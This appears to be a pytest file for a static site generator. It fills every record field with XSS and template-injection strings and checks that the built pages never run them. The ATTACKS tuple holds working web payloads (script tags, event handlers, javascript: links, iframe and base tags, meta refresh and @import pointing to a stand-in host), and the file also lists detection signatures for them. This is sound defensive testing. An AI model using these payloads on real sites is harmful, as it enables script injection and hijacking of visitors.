"""Text from strangers: attack strings in every text field of every record type do nothing."""

import shutil
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from playwright.sync_api import Browser
from pydantic import TypeAdapter, ValidationError

from honorpress.model.schemas import SCHEMAS
from honorpress.read.files import Files
from honorpress.read.sheets import read_sheet
from support.browser import open_page, record
from support.once import make_once
from support.tools import ROOT

ATTACKS = (
    "<script>alert(1)</script><img src=x onerror=alert(2)><svg/onload=alert(3)>",
    '"><script src=//evil.example/x.js></script>\'"><b onmouseover="alert(4)" autofocus onfocus=alert(5) tabindex=1>',
    "[a](javascript:alert(6)) [b](data:text/html,<script>alert(7)</script>) ![c](http://evil.example/c.png)",
    "</title></style></textarea><iframe src=//evil.example></iframe><base href=//evil.example/>",
    "{{ 7*7 }}{% raw %}{{ config }}<!--#exec--> --></main></body><meta http-equiv=refresh content=0;url=//evil.example>",
    "<style>@import'//evil.example/s.css'</style><form action=//evil.example><input type=image src=//evil.example/i>",
    "HPSLOTBODYZQ7 HPSLOTHEADZQ7 &lt;script&gt;alert(8)&lt;/script&gt; \\u003cscript>alert(9) javascript:alert(10)",
)
BODY = "\n\n".join(
    [*ATTACKS, "<details open ontoggle=alert(11)>", "| a |\n|---|\n| <img src=//evil.example/t> |"]
)
PROGRAMMES = ("jiaozuo", "lanshan")
"""Between them they fill in every kind of record: vote, withdrawal, correction, waiver, quotation, picture."""


@pytest.fixture(scope="module")
def hostile_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A site whose records hold attacks wherever the model takes text."""
    return make_once(tmp_path_factory, "hostile", _build) / "site"


def _build(tree: Path) -> None:
    for name in ("mkdocs.yml", "content"):
        (shutil.copytree if (ROOT / name).is_dir() else _copy_file)(ROOT / name, tree / name)
    for name in PROGRAMMES:
        shutil.copytree(ROOT / "honorees" / name, tree / "honorees" / name)
    shutil.copy2(ROOT / "honorees" / "areas.yml", tree / "honorees" / "areas.yml")
    files = Files(tree)
    replaced = 0
    for path in sorted((tree / "honorees").rglob("*")):
        kind = _kind(path)
        if kind:
            replaced += _poison(files, path.relative_to(tree).as_posix(), SCHEMAS[kind])
    assert replaced > 2000, "the attacks must reach most fields"
    command = [str(Path(sys.executable).with_name("honorpress")), "build", "--as-of", "2026-11-20"]
    done = subprocess.run(command, cwd=tree, capture_output=True, text=True, check=False)
    assert "Traceback" not in done.stderr, done.stderr
    assert (tree / "site" / "index.html").is_file(), done.stderr


def _copy_file(source: Path, target: Path) -> None:
    target.parent.mkdir(parents=True, exist_ok=True)
    shutil.copy2(source, target)


def _kind(path: Path) -> str:
    if path.suffix == ".md":
        return {"studios": "studio", "outreach": "outreach"}.get(path.parent.name, "honoree")
    return path.stem if path.suffix == ".yml" else ""


def _poison(files: Files, path: str, adapter: TypeAdapter[Any]) -> int:
    """Put an attack at every place where the record still validates with it; returns how many."""
    sheet = read_sheet(files, path)
    value: Any = sheet.value
    count = 0
    for holder, key in list(_leaves(value)):
        if not isinstance(holder[key], str) or key in ("slug", "order", "trade"):
            continue
        before = holder[key]
        holder[key] = ATTACKS[count % len(ATTACKS)][:195]
        if _valid(adapter, value):
            count += 1
        else:
            holder[key] = before
    text = yaml.safe_dump(value, allow_unicode=True, sort_keys=False)
    if path.endswith(".md"):
        text = f"---\n{text}---\n\n{BODY}\n"
    (files.root / path).write_text(text, encoding="utf-8")
    return count


def _leaves(value: Any) -> Iterator[tuple[Any, Any]]:
    pairs = value.items() if isinstance(value, dict) else enumerate(value)
    for key, inner in list(pairs):
        if isinstance(inner, dict | list):
            yield from _leaves(inner)
        else:
            yield value, key


def _valid(adapter: TypeAdapter[Any], value: object) -> bool:
    try:
        adapter.validate_python(value)
    except ValidationError:
        return False
    return True


def test_attacks_do_nothing_in_the_browser(browser: Browser, hostile_dir: Path) -> None:
    """No dialog, no script of theirs, no request to another host, on a page of every folder."""
    chosen = {page.parent.parent: page for page in sorted(hostile_dir.rglob("index.html"))}.values()
    assert len(chosen) > 20
    with open_page(browser) as page, record(page, hostile_dir.as_uri() + "/") as seen:
        for path in chosen:
            page.goto(path.as_uri())
            page.mouse.move(200, 200)
            assert page.locator("iframe, object, embed, base, meta[http-equiv=refresh]").count() == 0, path
            assert page.locator("main").count() == 1, path
            strange = page.locator("main script:not([src$='.js']), main [onerror], main [onload], main style")
            assert strange.count() == 0, path
    assert [fault for fault in seen.faults() if "x.png" not in fault] == []


def test_attacks_stay_text(hostile_dir: Path) -> None:
    """No page holds an attack as markup, nor a link that runs something."""
    signs: tuple[Callable[[str], bool], ...] = (
        lambda text: "<script>alert" in text,
        lambda text: "<img src=x" in text,
        lambda text: 'href="javascript:' in text.lower(),
        lambda text: 'href="data:' in text.lower(),
        lambda text: "//evil.example" in text and "<iframe" in text,
        lambda text: 'onmouseover="' in text,
    )
    seen_as_text = False
    for path in hostile_dir.rglob("*.html"):
        text = path.read_text(encoding="utf-8")
        seen_as_text = seen_as_text or "{{ 7*7 }}" in text
        assert not [number for number, sign in enumerate(signs) if sign(text)], path
    assert seen_as_text, "template marks must come out as they went in"
